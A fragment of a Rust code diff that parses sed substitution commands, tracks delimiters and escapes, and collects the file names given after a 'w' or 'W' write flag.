+            let Some(rest) = t.strip_prefix('s') else {
+                continue;
+            };
+            let mut chars = rest.chars();
+            let Some(d) = chars.next() else { continue };
+            if d.is_alphanumeric() || d == ' ' || d == '\\' {
+                continue;
+            }
+            let mut n = 0;
+            let mut esc = false;
+            let mut flags = String::new();
+            for ch in chars {
+                if n == 2 {
+                    flags.push(ch);
+                } else if esc {
+                    esc = false;
+                } else if ch == '\\' {
+                    esc = true;
+                } else if ch == d {
+                    n += 1;
+                }
+            }
+            if let Some(i) = flags.find(['w', 'W']) {
+                let f = flags[i + 1..].trim();
+                if !f.is_empty() {
+                    out.push(f.to_string());
+                }
             }
         }
     }
